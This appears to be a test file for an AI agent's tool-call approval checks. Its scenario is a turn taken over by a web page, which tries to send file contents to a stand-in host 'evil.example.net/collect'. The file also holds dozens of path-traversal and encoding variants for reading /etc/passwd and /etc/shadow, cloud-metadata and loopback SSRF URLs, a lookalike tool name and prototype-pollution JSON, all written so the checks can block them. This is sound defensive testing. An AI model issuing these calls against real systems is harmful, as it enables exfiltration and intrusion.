/**
 * What a model does that was told to misbehave: whole turns, from its words to what would run.
 */

import { describe, expect, test } from 'vitest';
import { approveCall } from '../../../src/core/checks/approve-call.ts';
import type { CheckContext } from '../../../src/core/checks/check-context.ts';
import { inspectOutcome } from '../../../src/core/checks/inspect-outcome.ts';
import { parseCalls } from '../../../src/core/checks/parse.ts';
import { joinLabels } from '../../../src/core/policy/labels.ts';
import type { JsonObject } from '../../../src/core/primitives/json.ts';
import {
  allow,
  denyList,
  FETCH,
  makeAuthority,
  makeContext,
  makePlugin,
  makePolicy,
  propose,
  READ_FILE,
  TEXT_STATS,
  TURN_ID,
} from './fixture.ts';

const TOOLS = [TEXT_STATS, READ_FILE, FETCH];

const REPORT = { path: '/data/report.csv' };
const PAGE = { url: 'https://news.example.net/' };
const POST = { url: 'https://evil.example.net/collect', body: 'all of it' };

/** Makes the calls one after the other, as a turn does, and tells what became of each. */
function runTurn(calls: readonly (readonly [tool: string, args: JsonObject])[]): string[] {
  let context: CheckContext = makeContext();
  return calls.map(([name, args], index) => {
    const approved = approveCall(propose(name, args, index), context);
    if (!approved.ok) return approved.error.reason;

    const tool = TOOLS.find((known) => known.name === name) ?? TEXT_STATS;
    const { label } = context;
    const { policy } = context.authority;
    const outcome = { kind: 'ok', output: 'whatever', cost: { durationMs: 1 } } as const;
    const result = inspectOutcome(outcome, { tool, label, policy });
    if (!result.ok) return result.error.reason;
    context = {
      ...context,
      slice: approved.value.slice,
      label: joinLabels(label, result.value.label),
    };
    return 'done';
  });
}

describe('a turn that a web page has taken over', () => {
  test('cannot send out what it read from files', () => {
    expect(
      runTurn([
        ['read-file', REPORT],
        ['fetch', PAGE],
        ['fetch', POST],
      ]),
    ).toEqual(['done', 'done', 'approval_required']);
    expect(
      runTurn([
        ['fetch', PAGE],
        ['read-file', REPORT],
        ['fetch', POST],
      ]),
    ).toEqual(['done', 'done', 'approval_required']);
  });

  test('cannot wash the label off with a tool of a closed world', () => {
    expect(
      runTurn([
        ['fetch', PAGE],
        ['read-file', REPORT],
        ['text-stats', { text: 'all of it' }],
        ['fetch', POST],
      ]),
    ).toEqual(['done', 'done', 'done', 'approval_required']);
  });

  test('leaves ordinary turns alone', () => {
    expect(
      runTurn([
        ['fetch', PAGE],
        ['fetch', POST],
        ['text-stats', { text: 'a' }],
      ]),
    ).toEqual(['done', 'done', 'done']);
    expect(
      runTurn([
        ['read-file', REPORT],
        ['text-stats', { text: 'a' }],
        ['fetch', POST],
      ]),
    ).toEqual(['done', 'done', 'done']);
  });
});

describe('a denied folder', () => {
  const authority = makeAuthority({
    policy: makePolicy({ deny: denyList('tool:file:read:/etc/*', 'tool:file:read:/data/a%3Ab') }),
  });

  test.each([
    '/etc/passwd',
    '/etc//passwd',
    '/etc/./passwd',
    '/etc/passwd/',
    '//etc/passwd',
    '/./etc/passwd',
    '/data/../etc/passwd',
    '/data/../../etc/passwd',
    '/%65tc/passwd',
    '/%2565tc/passwd',
    '/etc%2fpasswd',
    '/etc%252fpasswd',
    '/data/%2e%2e/etc/passwd',
    '/data/..%2fetc/passwd',
    '/data/..;/etc/passwd',
    '\\etc\\passwd',
    '/etc\\passwd',
    '/etc/passwd\0.csv',
    '/etc\u200b/passwd',
    '/ｅｔｃ/passwd',
    '／etc／passwd',
    '/etc/pa\u0301sswd',
    '/etc/app.conf',
    '/etc/a:b',
    '/data/a:b',
    '/data/a%3Ab',
    'file:///etc/passwd',
    'etc/passwd',
    '~/../etc/passwd',
  ])('is not read as %j', (path) => {
    const approved = approveCall(propose('read-file', { path }), makeContext({ authority }));
    const read = approved.ok ? approved.value.call.canonicalArguments.path : undefined;
    // Other names may be read, if they are what they say to every reader.
    expect(['/data/..;/etc/passwd', '/ｅｔｃ/passwd', undefined]).toContain(read);
  });
});

describe('a reply that tries several things at once', () => {
  test('has each of its calls judged by itself', () => {
    const reply = [
      { id: '1', name: 'text-stats', argumentsText: '{"text":"a"}' },
      { id: '2', name: 'text-stats', argumentsText: '{"text":"a","text":"b"}' },
      { id: '3', name: 'text-stats', argumentsText: '{"text":"a","__proto__":{"x":1}}' },
      { id: '4', name: 'tехt-stats', argumentsText: '{"text":"a"}' },
      { id: '5', name: 'read-file', argumentsText: '{"path":"/data/../../etc/shadow"}' },
      { id: '6', name: 'fetch', argumentsText: '{"url":"http://169.254.169.254/latest/"}' },
      { id: '7', name: 'fetch', argumentsText: '{"url":"http://[::ffff:127.0.0.1]/"}' },
    ];
    const reasons = parseCalls(reply, { turnId: TURN_ID, round: 0, callsLeft: 16 }).map((call) => {
      const approved = call.ok ? approveCall(call.value, makeContext()) : call;
      return approved.ok ? 'approved' : approved.error.reason;
    });
    expect(reasons).toEqual([
      'approved',
      'duplicate_key',
      'schema_mismatch',
      'lookalike_name',
      'unsafe_path',
      'private_address',
      'private_address',
    ]);
  });
});

describe('authority that is taken away while a turn runs', () => {
  const granted = makeAuthority();
  const call = (newest: CheckContext['newest']) =>
    approveCall(
      propose('read-file', REPORT),
      makeContext({ authority: granted, ...(newest && { newest }) }),
    );

  test.each([
    ['the grant is revoked', makeAuthority({ revision: 8, grants: [] })],
    [
      'the policy denies it',
      makeAuthority({ revision: 8, policy: makePolicy({ deny: denyList('tool:file:read') }) }),
    ],
    ['the plugin is stopped', makeAuthority({ revision: 8, plugins: [] })],
    [
      'the plugin’s newer version asks for less',
      makeAuthority({
        revision: 8,
        plugins: [makePlugin('io', [READ_FILE], { version: '2.0.0', allow: allow('tool:call') })],
      }),
    ],
  ])('ends at the next call: %s', (_, newest) => {
    expect(call(undefined).ok).toBe(true);
    expect(call(newest).ok).toBe(false);
  });
});
